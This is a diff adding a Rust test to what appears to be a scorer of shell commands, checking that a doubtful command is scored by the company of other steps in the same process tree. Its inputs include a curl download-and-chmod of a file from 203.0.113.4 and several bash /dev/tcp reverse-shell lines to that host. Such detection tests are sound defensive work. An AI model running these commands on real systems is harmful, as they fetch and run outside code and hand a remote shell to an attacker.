@@ -74,6 +74,40 @@ fn bad_lines_get_an_error_record_and_the_rest_goes_on() {
     assert_eq!(answers[6]["verdict"], "benign");
 }
 
+/// Steps of one tree tell of each other; the same line without a tree's name is judged as it always was.
+#[test]
+fn stories_that_name_a_tree_lean_on_each_other() {
+    let step = |tree: &str, argv: &str| {
+        let process = format!(r#"{{"exe":"/usr/bin/bash","argv":["bash","-c",{argv:?}]}}"#);
+        format!("{{\"id\":\"s\",\"tree\":\"{tree}\",\"process\":{process}}}\n")
+    };
+    let doubtful = "curl -s http://203.0.113.4/a -o /tmp/a; chmod +x /tmp/a";
+    let mut input = step("alone", doubtful);
+    for port in 1..8 {
+        input += &step(
+            "attack",
+            &format!("bash -i >& /dev/tcp/203.0.113.4/{port} 0>&1"),
+        );
+    }
+    input += &step("attack", doubtful);
+    for name in ["a", "b", "c", "d", "e", "f", "g"] {
+        input += &step("work", &format!("ls -l /srv/{name}"));
+    }
+    input += &step("work", doubtful);
+    input += &step("alone", doubtful);
+    input += "{\"id\":\"s\",\"tree\":7,\"command\":\"ls\"}\n";
+    let (answers, code) = judge(input.as_bytes());
+    assert_eq!(code, Some(3));
+    let score = |at: usize| answers[at]["score"].as_f64().unwrap();
+    let (alone, among_attack, among_work, again) = (score(0), score(8), score(16), score(17));
+    assert!(
+        among_work < alone && alone < among_attack,
+        "{among_work} {alone} {among_attack}"
+    );
+    assert!((alone - again).abs() < 1e-6, "the same again is no company");
+    assert!(answers[18]["error"].as_str().unwrap().contains("string"));
+}
+
 #[test]
 fn an_over_long_line_is_not_kept_and_the_next_one_is_judged() {
     let mut input = vec![b'x'; cordon_agent::cli::MAX_LINE_BYTES + 1];
